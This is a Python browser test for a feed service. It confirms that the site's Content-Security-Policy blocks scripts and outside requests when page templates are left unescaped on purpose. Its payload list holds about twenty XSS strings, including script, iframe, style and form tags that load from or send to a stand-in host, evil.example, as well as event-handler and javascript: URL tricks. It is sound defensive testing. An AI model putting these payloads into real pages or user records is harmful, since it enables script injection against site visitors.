"""The Content-Security-Policy of pages in a real browser, on pages with the markup of hostile records unescaped.

Pages escape records; should one fail to, the policy ensures that no script runs and no other host gets a request.
"""

from collections.abc import Callable, Iterator
from threading import Thread
from typing import Any

import pytest
from werkzeug.serving import make_server

from feedsvc.formats import page_stories, pages
from feedsvc.web import create_app
from feedsvc.web.responses import PAGE_POLICY
from tests.conftest import PATIENCE, Site, record
from tests.formats.conftest import wait_in

#: Each runs a script, loads from another host, or makes a link or form lead there, unless a policy forbids it.
MARKUP = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/m.js'</script>",
    "<img src=data:,x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe src=https://evil.example/frame></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/object></object>",
    "<embed src=https://evil.example/embed>",
    "<link rel=stylesheet href=https://evil.example/style.css>",
    "<link rel=manifest href=https://evil.example/manifest>",
    "<style>@import 'https://evil.example/import.css'; body { background: url(//evil.example/back) }</style>",
    "<video autoplay src=https://evil.example/video></video>",
    "<audio autoplay src=https://evil.example/audio></audio>",
    "<base href=https://evil.example/>",
    "<a id=link href='javascript:alert(1)'>x</a>",
    "<form id=form action=https://evil.example/form><button>x</button></form>",
    "<form id=script action='javascript:alert(1)'><button>x</button></form>",
)


@pytest.fixture
def unescaped(make_site: Callable[..., Site], monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """The URL of a service whose pages do not escape."""
    monkeypatch.setattr(page_stories, "escaped", list)
    monkeypatch.setattr(pages._templates, "autoescape", False)
    monkeypatch.setattr(pages._templates, "cache", {})
    files: dict[str, str | bytes] = {
        f"{number}.md": record(
            f"Title {number}", f"https://a.example/{number}", excerpt=f">-\n  {markup}", topics="[All]"
        )
        for number, markup in enumerate(MARKUP)
    }
    server = make_server("127.0.0.1", 0, create_app(make_site(files).config), threaded=True)
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    page = browser.new_page()
    page.set_default_timeout(PATIENCE * 1000)
    yield page
    page.close()


@pytest.mark.parametrize("policy", [True, False])
@pytest.mark.survives("pages that fail to escape hostile records")
def test_the_policy_prevents_markup_from_running_scripts_and_requesting_other_hosts(
    unescaped: str, page: Any, policy: bool
) -> None:
    requests, dialogs = [], []

    def answer(route: Any) -> None:
        requests.append(route.request.url)
        route.fulfill(body="")

    def without_policy(route: Any) -> None:
        response = route.fetch()
        headers = {name: value for name, value in response.headers.items() if name != "content-security-policy"}
        route.fulfill(response=response, headers=headers)

    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route(lambda url: not url.startswith(unescaped), answer)
    if not policy:
        page.route(f"{unescaped}/**", without_policy)
    response = page.goto(f"{unescaped}/topics/all/")
    assert response.headers.get("content-security-policy") == (PAGE_POLICY if policy else None)
    assert page.locator("article script, article iframe, article [onerror], article [onload]").count() >= 6
    if policy:
        for selector in ("#link", "#form button", "#script button"):
            page.locator(selector).click(no_wait_after=True, force=True)
            page.wait_for_timeout(100)
        page.wait_for_timeout(300)
        assert (requests, dialogs) == ([], [])
    else:  # which shows that the markup is harmful, without a click: the browser may leave the page at any moment
        wait_in(page, lambda: len(dialogs) > 3 and len(requests) > 5)
